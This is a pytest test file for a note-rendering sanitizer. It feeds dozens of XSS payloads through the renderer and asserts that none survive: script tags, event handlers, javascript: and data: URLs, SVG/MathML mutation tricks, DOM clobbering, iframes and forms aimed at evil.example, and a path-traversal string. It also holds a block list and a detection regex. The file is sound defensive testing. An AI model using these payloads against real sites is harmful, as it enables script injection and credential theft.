"""Hostile notes and feeds: whatever they contain, the rendered HTML runs no script and loads nothing unsafe.

Every payload is checked on the *parsed* output (tags and attributes), so a hole fails the test
even when the attack text is spelled differently from what a substring check would look for.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from notebase.render import sanitize
from notebase.render.markup import render, wikilink_key

TARGETS = {wikilink_key("SimCLR"): "papers/simclr/"}
DANGEROUS_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "button", "meta",
    "base", "link", "style", "svg", "template", "textarea", "select", "noscript", "annotation-xml",
    "mglyph", "malignmark", "animate", "set", "use", "foreignobject", "maction", "portal",
}
URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "data", "srcset", "background",
             "poster", "ping", "cite", "content"}
DANGEROUS_ATTRS = {"style", "srcdoc", "target", "autofocus", "http-equiv", "xmlns:xlink"}
SAFE_SCHEME = re.compile(r"(https?|mailto):", re.IGNORECASE)
ANY_SCHEME = re.compile(r"[a-z][a-z0-9+.\-]*:", re.IGNORECASE)
# An on...= attribute in a tag, read without a parser (quoted values skipped): a second opinion.
HANDLER_IN_TAG = re.compile(
    r"""<[a-z][^\s/>]*(?:\s+[^\s"'>=/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*\s+on[a-z]+\s*=""",
    re.IGNORECASE)


class Tags(HTMLParser):
    """Every start tag with its attributes, entity-decoded as a browser would read them."""

    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag


def holes(html: str, ids_allowed: bool = False) -> list[str]:
    """Return what in `html` could run script, load something unsafe or clobber the page."""
    found = [f"handler in tag: {m[0]}" for m in HANDLER_IN_TAG.finditer(html)]
    for tag, attrs in Tags(html).tags:
        if tag in DANGEROUS_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in DANGEROUS_ATTRS:
                found.append(f"{tag}[{name}]")
            if name in ("id", "name") and not ids_allowed:
                found.append(f"{tag}[{name}={value}]")
            if name in URL_ATTRS:
                probe = re.sub(r"[\x00-\x20\x7f]+", "", value)
                if ANY_SCHEME.match(probe) and not SAFE_SCHEME.match(probe):
                    found.append(f"{tag}[{name}={value}]")
    return found


def run(body: str, fmt: str = "markdown"):
    return render(body, fmt, source_path="notes/evil.md", first_line=1, page_path="tips/evil/",
                  targets=TARGETS)


RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<img src="x.png" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<p onclick="alert(1)">click</p>',
    '<a href="#" ONMOUSEOVER="alert(1)">hover</a>',
    '<details open ontoggle="alert(1)"><summary>s</summary></details>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    ('<form action="https://evil.example/"><input type="password" name="pw" autofocus onfocus="alert(1)">'
     '<button formaction="javascript:alert(1)">go</button></form>'),
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width:expression(alert(1))">x</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"/></svg>',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="https://example.org" target="_blank">tab</a>',
    '<img src="https://example.org/a.png" srcset="javascript:alert(1) 1x">',
    '<h2 id="location">clobber</h2><img name="getElementById" src="https://example.org/a.png">',
    '<a id="fn1" name="search">fake footnote</a>',
    '<h2 id="./nb0123456789abcdef01234567/forged">forged mark</h2>',
]


@pytest.mark.parametrize("fmt", ["markdown", "html"])
@pytest.mark.parametrize("payload", RAW_HTML)
def test_raw_html_payloads(payload, fmt):
    assert holes(run(payload, fmt).html) == []


MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[[javascript:alert(1)]]",
    '[["><script>alert(1)</script>]]',
    "[[SimCLR|<img src=x onerror=alert(1)>]]",
    "[[SimCLR#\"><script>alert(1)</script>]]",
    "![[\"><img src=x onerror=alert(1)>.png]]",
    "![[../../etc/passwd]]",
    "## <img src=x onerror=alert(1)>제목<script>alert(1)</script>",
    "# Title <svg onload=alert(1)>",
    "> [!note\"><script>alert(1)</script>] x\n> y",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```python onload=alert(1)\nx = 1\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "$$\n\\text{<iframe src=https://evil.example>}\n$$",
    "==<img src=x onerror=alert(1)>==",
    "Footnote[^x]\n\n[^x]: <script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", MARKDOWN)
def test_markdown_payloads(payload):
    assert holes(run(payload).html, ids_allowed=payload.startswith(("#", "Footnote"))) == []


@pytest.mark.parametrize(
    ("payload", "tag", "attr", "value"),
    [
        ('[[../../etc/passwd]]', "span", "title", "../../etc/passwd"),
        ('[["><script>x</script>]]', "span", "title", '"><script>x</script>'),
        ("```\"><b>\nx\n```", "div", "data-lang", None),
    ],
)
def test_hostile_text_stays_inert_text(payload, tag, attr, value):
    tags = Tags(run(payload).html).tags
    found = [attrs.get(attr) for name, attrs in tags if name == tag]
    assert found == [value] and all(name != "script" and name != "b" for name, _ in tags)


def test_generated_ids_survive_content_ids_do_not():
    html = run('## 개요\n\n<h3 id="manual">raw</h3>\n\n각주[^1]\n\n[^1]: 내용').html
    ids = [a["id"] for _, a in Tags(html).tags if "id" in a]
    assert ids == ["개요", "fnref1", "fn1"]


def test_heading_ids_never_take_a_page_id():
    html = run("## Main\n\n## Backlinks H\n\n## 본문").html
    assert [a["id"] for _, a in Tags(html).tags] == ["main-2", "backlinks-h-2", "본문"]


def test_a_marked_url_is_still_checked_for_its_scheme():
    for bad in ("javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", "data:text/html,x"):
        html = sanitize.clean(f'<a href="{sanitize.mark(bad)}">x</a><img src="{sanitize.mark(bad)}">')
        assert holes(html) == [] and "href" not in html and "src" not in html
    assert 'href="../ok/"' in sanitize.clean(f'<a href="{sanitize.mark("../ok/")}">x</a>')


def test_what_a_rewrite_returns_is_checked_too():
    html = sanitize.clean('<a href="x">x</a><img src="y">', lambda tag, attr, value: "javascript:alert(1)")
    assert holes(html) == [] and "javascript" not in html


def test_mark_is_secret_and_removed():
    html = sanitize.clean(f'<h2 id="{sanitize.mark("개요")}">t</h2>')
    assert html == '<h2 id="개요">t</h2>'
    assert sanitize.mark("").startswith("./nb") and len(sanitize.mark("")) > 20


def test_inputs_are_always_disabled_checkboxes():
    tags = Tags(run('<input type="text" value="x"><input type="submit">', "html").html).tags
    assert tags == [("input", {"type": "checkbox", "disabled": "disabled"})] * 2


def test_remote_images_and_plain_links_survive():
    html = run('![a](https://example.org/a.png) [b](mailto:me@example.org) <a href="https://x.example/">c</a>').html
    tags = Tags(html).tags
    assert ("img", {"src": "https://example.org/a.png", "alt": "a", "loading": "lazy"}) in tags
    assert [a["href"] for n, a in tags if n == "a"] == ["mailto:me@example.org", "https://x.example/"]
    assert all(a["rel"] == "noopener noreferrer" for n, a in tags if n == "a")


def test_mathml_survives_with_only_presentation_attributes():
    tags = Tags(run("$\\mathbf{x} \\le \\color{red}{y}$").html).tags
    names = {n for n, _ in tags}
    assert {"math", "mrow", "mi", "mo", "mstyle"} <= names
    assert ("mstyle", {"mathcolor": "red"}) in tags
    assert all("xmlns" not in a for _, a in tags)
